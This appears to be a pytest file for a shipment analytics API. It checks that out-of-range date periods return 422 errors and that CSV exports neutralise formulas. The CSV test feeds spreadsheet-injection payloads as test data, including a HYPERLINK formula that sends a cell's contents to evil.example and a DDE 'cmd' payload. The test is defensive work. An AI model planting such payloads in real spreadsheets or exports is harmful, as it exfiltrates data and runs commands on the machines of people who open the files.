"""Hostile input to /v1/analytics: dates at the edges of the calendar are 422 problems, CSV exports are formula-safe."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from app.analytics import rollups
from tests.analytics.history import add_shipment, track

ENDPOINTS = [
    ("/v1/analytics/carriers", {}),
    ("/v1/analytics/shipments/late", {}),
    ("/v1/analytics/network", {"carrier": "dhl"}),
]


@pytest.mark.parametrize(("path", "extra"), ENDPOINTS)
@pytest.mark.parametrize(
    "period",
    [
        {"from": "0001-01-01T00:00:00+14:00"},  # before year 1 in UTC
        {"to": "0001-01-01T00:00:00+14:00"},
        {"to": "0001-01-10T00:00:00"},  # the default `from` (to - 30 days) would be before year 1
        {"from": "9999-12-31T23:59:59-14:00"},  # after year 9999 in UTC
        {"from": "9999-12-01", "to": "9999-12-31T23:59:59-14:00"},
        {"from": "2026-10-02", "to": "2026-10-01"},
    ],
)
async def test_periods_outside_the_calendar_are_422(client: Any, make_tenant: Any, path: str, extra: dict, period: dict) -> None:
    tenant = await make_tenant("edges")
    r = await client.get(path, params={**extra, **period}, headers=tenant.headers())
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["type"].endswith("/invalid-period") and "`" in r.json()["detail"]


@pytest.mark.parametrize("service", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"])
async def test_csv_export_neutralizes_formulas(client: Any, make_tenant: Any, owner_db: Any, app_db: Any, service: str) -> None:
    tenant = await make_tenant("csv")
    shipment = await add_shipment(owner_db, tenant.id, service=service)
    await track(app_db, tenant.id, shipment, [("2026-10-01T12:00:00", "in_transit"), ("2026-10-02T12:00:00", "delivered")])
    await rollups.refresh_queued(db=app_db)

    r = await client.get(
        "/v1/analytics/carriers",
        params={"from": "2026-10-01", "to": "2026-11-01", "group_by": "carrier,service", "format": "csv"},
        headers=tenant.headers(),
    )
    assert r.status_code == 200, r.text
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["service"] == "'" + service  # shown as text by a spreadsheet, never run
    assert row["carrier"] == "dhl" and row["shipments"] == "1" and row["transit_hours_p50"] == "24.0"
    # JSON keeps the value as it is.
    r = await client.get("/v1/analytics/carriers", params={"from": "2026-10-01", "to": "2026-11-01", "group_by": "service"},
                         headers=tenant.headers())
    assert r.json()["groups"][0]["key"] == {"service": service}
